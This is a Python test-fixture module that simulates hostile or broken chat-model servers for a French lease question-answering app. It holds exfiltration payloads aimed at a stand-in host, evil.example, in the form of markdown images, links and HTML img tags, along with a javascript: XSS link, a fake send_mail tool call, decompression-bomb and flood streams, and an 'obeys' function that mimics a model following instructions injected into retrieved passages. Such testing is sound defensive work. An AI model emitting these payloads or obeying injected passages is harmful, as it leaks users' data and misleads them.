"""What a hostile or broken model server does: one behaviour a name, with what a reader is told.

    server.answer = BEHAVIOURS["cut in a sentence"].answer

Each is an answer of `model_server`; `says` is a part of the French notice that it is to lead to.
`obeys` is the model that does what the passages tell it to.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass

from starlette.responses import Response, StreamingResponse

from tests.adapters.chat.model_server import (
    DONE,
    Answer,
    Body,
    abruptly,
    drips,
    event,
    fails,
    hangs,
    raw_event,
    redirects,
    says,
    sends,
    streams,
)

EVIL = "http://evil.example/p.png?q=secret"
LIE = "Le loyer annuel est fixé à 84 000 € [1]. "
PROVED = "La durée du bail est de neuf ans [1]."
"""Of the lease of `tests.flows.test_ask`."""


@dataclass(frozen=True, slots=True)
class Behaviour:
    answer: Answer
    says: str


DOWN, SLOW, CUT = "ne répond pas", "trop tardé", "interrompue"
GARBAGE, DENIED, UNPROVEN = "n'est pas une réponse", "refusé", "n'est prouvé"


def tool_call() -> bytes:
    call = {"id": "1", "function": {"name": "send_mail", "arguments": json.dumps({"to": EVIL})}}
    delta = {"role": "assistant", "content": "", "tool_calls": [call]}
    choice = {"index": 0, "delta": delta, "finish_reason": "tool_calls"}
    return raw_event(json.dumps({"id": "1", "model": "small", "choices": [choice]}))


def packed(size: int) -> Answer:
    """A reply that is a thousand times as large as what is sent."""
    body = gzip.compress(event("x" * size))
    headers = {"Content-Encoding": "gzip"}
    return lambda _: Response(body, media_type="text/event-stream", headers=headers)


def floods(piece: bytes, status: int = 200, kind: str = "text/event-stream") -> Answer:
    """As fast as it is read, for ever."""

    async def body() -> AsyncIterator[bytes]:
        while True:
            yield piece
            await asyncio.sleep(0)  # else it would not even see that its client has gone

    return lambda _: StreamingResponse(body(), status, media_type=kind)


def typed(**choice: object) -> Answer:
    whole = {"index": 0, "delta": {"content": LIE}, "finish_reason": None} | choice
    return streams(raw_event(json.dumps({"id": "1", "model": "small", "choices": [whole]})), DONE)


BEHAVIOURS = {
    # Down, slow, over its limits.
    "error 500": Behaviour(fails(500), DOWN),
    "error 503 without end": Behaviour(floods(b"x" * 65536, 503, "text/plain"), GARBAGE),
    "limit of rate": Behaviour(fails(429), "trop de demandes"),
    "no such key": Behaviour(fails(401), DENIED),
    "a redirect": Behaviour(redirects(EVIL), DENIED),
    "silence": Behaviour(hangs(), SLOW),
    "comments for ever": Behaviour(drips(b": still here\n\n", 0.02), SLOW),
    "empty pieces for ever": Behaviour(drips(event(""), 0.02), SLOW),
    "empty choices for ever": Behaviour(
        drips(raw_event('{"id":"1","model":"m","choices":[]}'), 0.02), SLOW
    ),
    "one word, then silence": Behaviour(hangs("Le loyer "), SLOW),
    # Cut.
    "cut before the first word": Behaviour(streams(then=abruptly), CUT),
    "cut in a sentence": Behaviour(streams(event("Le loyer annuel est"), then=abruptly), CUT),
    "cut in a lie": Behaviour(streams(event(LIE), then=abruptly), CUT),
    "done without an end": Behaviour(streams(event(LIE), DONE), CUT),
    # Garbage.
    "invalid JSON": Behaviour(streams(raw_event('{"choices": [{')), GARBAGE),
    "deep JSON": Behaviour(streams(raw_event("[" * 100_000)), GARBAGE),
    "choices of a wrong type": Behaviour(streams(raw_event('{"choices": 3}')), GARBAGE),
    "a delta of a wrong type": Behaviour(typed(delta="Le loyer"), GARBAGE),
    "content of a wrong type": Behaviour(typed(delta={"content": 84}), GARBAGE),
    "an unknown end": Behaviour(typed(finish_reason={"no": 1}), GARBAGE),
    "no UTF-8": Behaviour(streams(b"data: \xff\xfe\n\n"), GARBAGE),
    "a page": Behaviour(sends("<html>Sign in</html>", "text/html"), GARBAGE),
    "no stream": Behaviour(sends('{"choices": []}', "application/json"), GARBAGE),
    "a packed stream": Behaviour(packed(10_000_000), GARBAGE),
    "a line without end": Behaviour(floods(b"x" * 65536), GARBAGE),
    "an event of megabytes": Behaviour(streams(event("x" * 3_000_000)), GARBAGE),
    "absurd counts": Behaviour(
        streams(raw_event('{"id":"1","model":"m","choices":[],"usage":{"prompt_tokens":"a"}}')),
        GARBAGE,
    ),
    # A reply, and nothing in it to show.
    "nothing": Behaviour(says(), UNPROVEN),
    "empty choices": Behaviour(
        streams(raw_event('{"id":"1","model":"m","choices":[]}'), event(finish="stop"), DONE),
        UNPROVEN,
    ),
    "a tool call": Behaviour(streams(tool_call(), DONE), UNPROVEN),
    "white space for ever": Behaviour(floods(event(" " * 100)), UNPROVEN),
    "line ends for ever": Behaviour(floods(event("\n" * 100)), UNPROVEN),
    "a word for ever": Behaviour(floods(event("loyer " * 20)), UNPROVEN),
    "full stops for ever": Behaviour(floods(event(". " * 50)), UNPROVEN),
    "brackets for ever": Behaviour(floods(event("[1" * 50)), UNPROVEN),
    "a huge piece": Behaviour(says("Le loyer " * 100_000), UNPROVEN),
    "a lie": Behaviour(says(LIE), UNPROVEN),
    "no marker": Behaviour(says("Le loyer annuel est fixé à 48 000 €."), UNPROVEN),
    "markers out of range": Behaviour(says("Le loyer est de 48 000 € [0] [9] [99]."), UNPROVEN),
    "huge markers": Behaviour(says("Le loyer est de 48 000 € [" + "9" * 5000 + "]."), UNPROVEN),
    "broken markers": Behaviour(says("[1", " [", "1] [] [-1] [1.5] [１"), UNPROVEN),
    "an image": Behaviour(says(f"Le loyer annuel est fixé à 48 000 € ![]({EVIL}) [1]."), UNPROVEN),
    "a link": Behaviour(says(f"Le loyer annuel est fixé à [48 000 €]({EVIL}) [1]."), UNPROVEN),
    "a bare link": Behaviour(says(f"Le loyer annuel est de 48 000 € {EVIL} [1]."), UNPROVEN),
    "a host's name": Behaviour(
        says("Le loyer annuel est de 48 000 € evil.example/48000 [1]."), UNPROVEN
    ),
    "a link spelt otherwise": Behaviour(
        says("Le loyer annuel est de 48 000 € http&#58;//evil.example [1]."), UNPROVEN
    ),
    "a script": Behaviour(
        says("Le loyer annuel est de 48 000 € [x](javascript:alert`1`) [1]."), UNPROVEN
    ),
    "HTML": Behaviour(
        says(f"Le loyer annuel est de <b>48 000 €</b><img src='{EVIL}'> [1]."), UNPROVEN
    ),
    "a thought": Behaviour(
        says("<think>Le loyer annuel est fixé à 48 000 € [1]</think>"), UNPROVEN
    ),
}

_PASSAGE = re.compile(r"^\[(\d+)\]", re.MULTILINE)
_WANTED = re.compile(r"(?:\bque\b|\bthat\b|:)\s+([^.!?]+)")


def obeys(body: Body) -> Response:
    """Repeats what any line of the passages asks to say, as proved by all of them, with an image
    that carries the question out."""
    asked = body["messages"][-1]["content"]
    markers = "".join(f"[{number}]" for number in _PASSAGE.findall(asked))
    data = " ".join(line[2:] for line in asked.splitlines() if line.startswith("> "))
    said = [f"{wish} {markers}." for wish in _WANTED.findall(data)]
    return says(" ".join([*said, f"![x]({EVIL}) {markers}."]))(body)
